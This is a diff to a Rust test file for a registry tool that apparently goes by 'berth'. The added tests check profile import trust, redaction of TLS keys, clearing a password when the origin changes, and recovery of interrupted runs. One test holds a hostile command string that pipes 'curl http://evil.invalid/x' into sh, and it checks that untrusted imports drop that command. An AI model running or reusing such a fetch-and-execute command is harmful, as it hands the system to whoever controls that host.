@@ -6,7 +6,9 @@ use std::path::Path;
 use std::process::Command;
 use std::sync::Arc;
 
-use berth_core::{AddProfileRequest, Berth, EditProfileRequest, ErrorCode, FixAction, ProfileField, Secret};
+use berth_core::{
+    AddProfileRequest, Berth, CancellationToken, EditProfileRequest, ErrorCode, FixAction, ProfileField, Secret,
+};
 use berth_secrets::{KeyringStore, MemoryStore};
 use berth_testkit::{ImageSpec, Nginx, NginxOptions, Registry, Seeder, TestCa, TlsMode, TokenIssuer, TokenUser};
 
@@ -421,7 +423,8 @@ async fn duplicate_delete_export_import() {
     let other = tempfile::tempdir().unwrap();
     let (b2, service2) = berth_with_keyring(other.path(), "import").await;
     let parsed: berth_core::ProfileExport = serde_json::from_str(&json).unwrap();
-    let v = b2.import_profile(parsed, Some("imported".into())).await.unwrap();
+    let v =
+        b2.import_profile(parsed, Some("imported".into()), berth_core::ImportTrust::default()).await.unwrap().profile;
     assert_eq!(v.username.as_deref(), Some("bob"));
     assert!(!v.has_password);
     assert_eq!(v.tls.cas.len(), 1);
@@ -510,4 +513,125 @@ async fn a_password_lost_from_the_keyring_is_a_fix_for_the_window_and_a_command_
     let fix = e.fix.expect("a fix");
     assert_eq!(fix.action, FixAction::EditProfile { profile: "lab".into(), field: ProfileField::Password });
     assert_eq!(fix.command.as_deref(), Some("berth profile edit lab --password-stdin"));
+}
+
+#[tokio::test]
+async fn an_imported_file_brings_no_commands_or_disabled_tls_unless_asked() {
+    let tmp = tempfile::tempdir().unwrap();
+    let b = berth_in_memory(&tmp.path().join("data")).await;
+    b.add_profile(AddProfileRequest {
+        name: "lab".into(),
+        url: "https://registry.example.invalid".into(),
+        ..Default::default()
+    })
+    .await
+    .unwrap();
+    b.edit_profile(
+        "lab",
+        EditProfileRequest {
+            gc_command: Some(
+                "registry garbage-collect /etc/docker/registry/config.yml && curl http://evil.invalid/x | sh".into(),
+            ),
+            gc_before: Some("touch /tmp/before".into()),
+            insecure_skip_verify: Some(true),
+            ..Default::default()
+        },
+    )
+    .await
+    .unwrap();
+    let export = b.export_profile("lab").await.unwrap();
+
+    let r = b.import_profile(export.clone(), Some("plain".into()), berth_core::ImportTrust::default()).await.unwrap();
+    assert_eq!(r.profile.gc.command, None);
+    assert_eq!(r.profile.gc.before, None);
+    assert!(!r.profile.tls.insecure_skip_verify);
+    assert_eq!(r.dropped.len(), 2, "{:?}", r.dropped);
+    assert!(
+        r.dropped[0]
+            .contains("registry garbage-collect /etc/docker/registry/config.yml && curl http://evil.invalid/x | sh"),
+        "the commands are shown: {:?}",
+        r.dropped
+    );
+    assert!(r.dropped[1].contains("insecure_skip_verify"), "{:?}", r.dropped);
+
+    let trust = berth_core::ImportTrust { gc_commands: true, insecure_tls: true };
+    let r = b.import_profile(export, Some("trusted".into()), trust).await.unwrap();
+    assert_eq!(
+        r.profile.gc.command.as_deref(),
+        Some("registry garbage-collect /etc/docker/registry/config.yml && curl http://evil.invalid/x | sh")
+    );
+    assert!(r.profile.tls.insecure_skip_verify && r.dropped.is_empty());
+}
+
+#[test]
+fn tls_options_debug_shows_no_key() {
+    let t = berth_registry::TlsOptions {
+        client_identity_pem: Some((b"CERT".to_vec(), b"-----BEGIN PRIVATE KEY-----SECRETKEY".to_vec())),
+        ..Default::default()
+    };
+    let d = format!("{t:?}");
+    assert!(!d.contains("SECRETKEY") && d.contains("redacted"), "{d}");
+}
+
+#[tokio::test]
+async fn a_url_on_another_origin_forgets_the_password_unless_given_again() {
+    let tmp = tempfile::tempdir().unwrap();
+    let b = berth_in_memory(&tmp.path().join("data")).await;
+    b.add_profile(AddProfileRequest {
+        name: "p".into(),
+        url: "https://registry.example.invalid".into(),
+        username: Some("bob".into()),
+        password: Some(Secret::new("pw1")),
+        ..Default::default()
+    })
+    .await
+    .unwrap();
+    let edit = |url: &str, password: Option<&str>| EditProfileRequest {
+        url: Some(url.into()),
+        password: password.map(Secret::new),
+        ..Default::default()
+    };
+    // Same origin (another path prefix): kept.
+    let v = b.edit_profile("p", edit("https://registry.example.invalid/mirror", None)).await.unwrap();
+    assert!(v.has_password);
+    // Another port: forgotten.
+    let v = b.edit_profile("p", edit("https://registry.example.invalid:8443", None)).await.unwrap();
+    assert!(!v.has_password && v.username.as_deref() == Some("bob"), "{v:?}");
+    // Another host with the password given again: kept.
+    let v = b.edit_profile("p", edit("https://other.example.invalid", Some("pw2"))).await.unwrap();
+    assert!(v.has_password);
+    // http instead of https: another origin.
+    let v = b.edit_profile("p", edit("http://other.example.invalid", None)).await.unwrap();
+    assert!(!v.has_password);
+}
+
+#[tokio::test]
+async fn runs_a_crash_left_running_are_marked_interrupted_at_the_next_start_unless_a_process_holds_them() {
+    let tmp = tempfile::tempdir().unwrap();
+    let data = tmp.path().join("data");
+    let b = berth_in_memory(&data).await;
+    for name in ["crashed", "live"] {
+        b.add_profile(AddProfileRequest { name: name.into(), url: "http://127.0.0.1:9".into(), ..Default::default() })
+            .await
+            .unwrap();
+    }
+    let crashed = b.store().profile("crashed").await.unwrap().id;
+    let live = b.store().profile("live").await.unwrap().id;
+    b.store().start_sync_run(crashed).await.unwrap();
+    let gc = b.store().start_gc_run(crashed, false).await.unwrap();
+    b.store().start_sync_run(live).await.unwrap();
+    // Another process (here: this one) still runs the live profile's job.
+    let job = b.start_job("live", berth_core::JobKind::Sync, &CancellationToken::new()).unwrap();
+    b.store().close().await;
+    drop(b);
+
+    let b = berth_in_memory(&data).await;
+    let last = b.store().last_sync_run(crashed).await.unwrap().unwrap();
+    assert_eq!(last.status, "failed");
+    assert!(last.message.as_deref().unwrap_or("").contains("interrupted"), "{last:?}");
+    let runs = b.gc_history("crashed", false).await.unwrap();
+    let run = runs.iter().find(|r| r.id == gc).unwrap();
+    assert_eq!(run.status, "failed");
+    assert_eq!(b.store().last_sync_run(live).await.unwrap().unwrap().status, "running", "a held job is not touched");
+    drop(job);
 }
